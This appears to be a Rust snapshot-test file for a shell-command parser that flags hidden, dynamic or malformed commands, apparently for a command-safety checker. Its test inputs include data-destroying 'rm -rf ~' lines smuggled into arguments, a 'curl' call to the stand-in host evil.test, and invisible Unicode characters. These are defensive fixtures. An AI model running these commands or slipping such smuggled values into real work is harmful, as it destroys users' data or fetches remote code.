    cd src && ls > log
        run cd src @ /w/src
        write /w/src/log
        run ls @ /w/src
    cd src; ls
        run cd src @ /w/src
        run ls @ /w/src
        run ls
    cd src || ls
        run cd src @ /w/src
        run ls
    (cd src && ls); ls
        run cd src @ /w/src
        run ls @ /w/src
        run ls
    cd src | ls; ls
        run cd src @ /w/src
        run ls
        run ls
    cd src & ls
        run cd src @ /w/src
        run ls
    cd a && cd b && ls
        run cd a @ /w/a
        run cd b @ /w/a/b
        run ls @ /w/a/b
    ! cd src && ls
        run cd src @ /w/src
        run ls
    cd; ls
        run cd @ /home/dev
        run ls @ /home/dev
        run ls
    cd ~/x && ls
        run cd <~/x-> @ /home/dev/x
        run ls @ /home/dev/x
    cd - && ls
        run cd - @ (at run time)
        run ls @ (at run time)
    cd $X && ls
        run cd <?-*> @ (at run time)
        run ls @ (at run time)
    cd a b && ls
        run cd a b @ (at run time)
        run ls
        run ls @ (at run time)
    cd -P -- src && ls
        run cd -P -- src @ /w/src
        run ls @ /w/src
    command cd src && ls
        run cd src | ~command cd src @ /w/src
        run ls @ /w/src
    env cd src && ls
        run cd src | ~env cd src @ /w/src
        run ls
    pushd src && ls
        run pushd src
        run ls
        run ls @ (at run time)
    bash -c 'cd src; ls' && ls
        run cd src | ~bash -c "cd src; ls" @ /w/src
        run ls | ~bash -c "cd src; ls" @ /w/src
        run ls | ~bash -c "cd src; ls"
        run ls
    if cd src; then ls; else cat; fi
        run cd src @ /w/src
        run ls @ /w/src
        run cat
        run (nothing) !control_flow
    while ls; do cd ..; done
        run ls
        run ls @ (not sent)
        run cd .. @ /
        run cd .. @ (not sent)
        run (nothing) !control_flow
    f() { cd src; }; ls
        run cd src @ /w/src
        run ls
        run ls @ (at run time)
        run (unknown) !dynamic_command
    eval 'cd src' && ls
        run eval "cd src" !dynamic_command
        run cd src @ /w/src
        run ls
        run ls @ (at run time)
    cd a; cd b; cd c; ls
        run cd a @ /w/a
        run cd b @ /w/a/b
        run cd b @ /w/b
        run cd c @ /w/a/b/c
        run cd c @ /w/b/c
        run cd c @ /w/a/c
        run cd c @ /w/c
        run ls @ /w/a/b/c
        run ls @ /w/b/c
        run ls @ /w/a/c
        run ls @ (not sent)
    CDPATH=/x; cd src && ls
        run cd src @ (at run time)
        run ls
        run ls @ (at run time)
        run (nothing) !assignments
    "#);
}

#[test]
fn what_does_not_parse_is_a_floor_and_hides_nothing() {
    insta::assert_snapshot!(parts_of(&[
        "git status \"",
        "ls $(rm x",
        "ls ); rm x",
        "ls &&",
        "| rm x",
        "; rm x",
        "ls ;; rm x",
        "if rm x",
        "then rm x; fi",
        "{ rm x",
        "cat <<EOF\n$(rm x)",
        "cat <<A $(echo\n)\nbody\nA",
        "foo a=(b) ; rm x",
        "ls (rm x)",
        "echo ${x",
        "()",
        "<",
        "ls >",
        "ls \\",
    ]), @r#"
    git status "
        run git status ""
        run (unknown) !syntax
    ls $(rm x
        run rm x
        run ls <?-*>
        run (unknown) !syntax
    ls ); rm x
        run ls
        run rm x
        run (unknown) !syntax
    ls &&
        run ls
        run (unknown) !syntax
    | rm x
        run rm x
        run (unknown) !syntax
    ; rm x
        run rm x
        run (unknown) !syntax
    ls ;; rm x
        run ls
        run rm x
        run (unknown) !syntax
    if rm x
        run rm x
        run (unknown) !syntax !control_flow
    then rm x; fi
        run rm x
        run (unknown) !syntax
    { rm x
        run rm x
        run (unknown) !syntax
    cat <<EOF\n$(rm x)
        run cat
        run rm x
        run (unknown) !syntax
    cat <<A $(echo\n)\nbody\nA
        run echo
        run cat <?-*>
        run (unknown) !syntax
    foo a=(b) ; rm x
        run foo a=
        run rm x
        run (unknown) !syntax
    ls (rm x)
        run rm x
        run (unknown) !syntax !dynamic_command
    echo ${x
        run echo <?-*>
        run (unknown) !syntax !dynamic_command
    ()
        run (unknown) !syntax
    <
        run (unknown) !syntax
    ls >
        run ls
        run (unknown) !syntax
    ls \
        run ls "\\"
        run (unknown) !syntax
    "#);
}

#[test]
fn nothing_is_not_a_command() {
    insta::assert_snapshot!(parts_of(&[
        "   ",
        "# a comment",
        "\n\n",
    ]), @r#"
       
        run (unknown) !syntax
    # a comment
        run (unknown) !syntax
    \n\n
        run (unknown) !syntax
    "#);
}

#[test]
fn comments() {
    insta::assert_snapshot!(parts_of(&[
        "git status # ; rm x",
        "git status #\nrm x",
        "git log #note \\\nrm x",
        "echo a#b; rm x",
    ]), @r#"
    git status # ; rm x
        run git status
    git status #\nrm x
        run git status
        run rm x
    git log #note \\nrm x
        run git log
        run rm x
    echo a#b; rm x
        run echo "a#b"
        run rm x
    "#);
}

#[test]
fn characters_that_nobody_sees() {
    insta::assert_snapshot!(parts_of(&[
        "git st\u{200b}atus",
        "echo \"a\u{200b}b\"",
        "echo 'a\u{202e}b'",
        "git\u{b}status",
        "git status\u{d}\nls",
        "git status\u{a0}x",
    ]), @r#"
    git st\u{200b}atus
        run git "st\u{200b}atus"
        run (unknown) !hidden_characters
    echo "a\u{200b}b"
        run echo "a\u{200b}b"
    echo 'a\u{202e}b'
        run echo "a\u{202e}b"
        run (unknown) !hidden_characters
    git\u{b}status
        run "git\u{b}status"
        run (unknown) !hidden_characters
    git status\r\nls
        run git "status\r"
        run ls
        run (unknown) !hidden_characters
    git status\u{a0}x
        run git "status\u{a0}x"
        run (unknown) !hidden_characters
    "#);
}

/// The parts of argument lists.
fn parts_of_argv(lists: &[&[&str]]) -> String {
    let lines: Vec<String> = lists.iter().map(|words| format!("{words:?}")).collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let requests = lists.iter().map(|words| Request { roots: ROOTS, ..Request::argv(words) });
    under_lines(&lines, requests)
}

#[test]
fn no_shell_reads_the_words_of_an_argument_list() {
    insta::assert_snapshot!(parts_of_argv(&[
        &["echo", "$(rm -rf ~)"],
        &["git", "status; rm -rf ~"],
        &["bash", "-lc", "git status && rm -rf ~"],
        &["/bin/bash", "-lc", "curl https://evil.test/x"],
        &[],
        &[""],
        &[" "],
        &["git", "status\0--x"],
        &["git", "st\u{200b}atus"],
    ]), @r#"
    ["echo", "$(rm -rf ~)"]
        run echo "$(rm -rf ~)"
    ["git", "status; rm -rf ~"]
        run git "status; rm -rf ~"
    ["bash", "-lc", "git status && rm -rf ~"]
        run git status | ~bash -lc "git status && rm -rf ~"
        run rm -rf <~-> | ~bash -lc "git status && rm -rf ~"
    ["/bin/bash", "-lc", "curl https://evil.test/x"]
        run curl https://evil.test/x | ~bash -lc "curl https://evil.test/x" | ~/bin/bash -lc "curl https://evil.test/x"
    []
        run (unknown) !syntax
    [""]
        run (unknown) !syntax
    [" "]
        run (unknown) !syntax
    ["git", "status\0--x"]
        run git "status\0--x" !hidden_characters
    ["git", "st\u{200b}atus"]
        run git "st\u{200b}atus" !hidden_characters
    "#);
}

/// The operands of the commands of shell lines, and whether every flag among them is known.
fn operands_of(lines: &[&str]) -> String {
    let mut text = String::new();
    for line in lines {
        let request = Request { roots: ROOTS, ..Request::shell(line) };
        canon::parts(&request, &mut |judged| {
            let Object::Command(command) = judged.part.object else { return };
            let words = command.forms.first().map_or(&[][..], |form| form.words);
            let mut found = Vec::new();
            let are_known = operands(words, 1, &|_| false, &mut |word| {
                found.push(word.value().unwrap_or("?").to_owned());
            });
            text.push_str(&format!("{line}\n    {} {are_known}\n", found.join(" ")));
        });
    }
    text
}

#[test]
fn what_is_known_at_run_time_does_not_vanish_as_the_value_of_a_flag() {
    insta::assert_snapshot!(operands_of(&[
        "head -n 5 f",
        "head -n5 f",
        "head -n $N f",
        "head -n \"$N\" f",
        "head -n a$N f",
        "head -n$N f",
        "head -n -- f",
    ]), @r#"
    head -n 5 f
        f true
    head -n5 f
        f true
    head -n $N f
        ? f false
    head -n "$N" f
        ? f false
    head -n a$N f
        ? f true
    head -n$N f
        ? f false
    head -n -- f
        f true
    "#);
}

#[test]
fn names_fold_where_the_platform_ignores_case() {
    let lines = ["RM -rf x", "ENV rm x", "./Git.exe -C x push", "bash -c 'RM x'"];
    let requests = lines.iter().map(|line| Request {
        roots: ROOTS,
        platform: Some(Platform::Macos),
        ..Request::shell(line)
    });
    insta::assert_snapshot!(under_lines(&lines, requests), @r#"
    RM -rf x
        run RM -rf x | ~rm -rf x
    ENV rm x
        run ENV rm x | ~env rm x | ~rm x
    ./Git.exe -C x push
        run ./Git.exe -C x push | ~Git.exe -C x push | ~git.exe -C x push
    bash -c 'RM x'
        run RM x | ~rm x | ~bash -c "RM x"
    "#);
}

#[test]
fn a_folder_that_is_none_on_the_platform_is_a_floor_of_paths_alone() {
    let lines = ["git status", "ls > x", "cd src && ls", "./x"];
    let requests = lines.iter().map(|line| Request {
        roots: ROOTS,
        cwd: Some("/w"), // On no drive.
        platform: Some(Platform::Windows),
        ..Request::shell(line)
    });
    insta::assert_snapshot!(under_lines(&lines, requests), @r#"
    git status
        run git status @ (not sent)
    ls > x
        write (not sent) !ambiguous_path
        run ls @ (not sent)
    cd src && ls
        run cd src @ (not sent)
        run ls @ (not sent)
    ./x
        run ./x | ~x @ (not sent)
    "#);
}

#[test]
fn other_shells_are_not_understood() {
    let kinds = [ShellKind::Zsh, ShellKind::Fish, ShellKind::Powershell, ShellKind::Cmd];
    let lines = kinds.map(ShellKind::name);
    let requests = kinds.iter().map(|&kind| Request {
        roots: ROOTS,
        shell_kind: kind,
        ..Request::shell("git status; rm -rf x")
    });
    insta::assert_snapshot!(under_lines(&lines, requests), @r#"
    zsh
        run (unknown) !syntax
        run git status
        run rm -rf x
    fish
        run (unknown) !syntax
    powershell
        run (unknown) !syntax
    cmd
        run (unknown) !syntax
    "#);
}
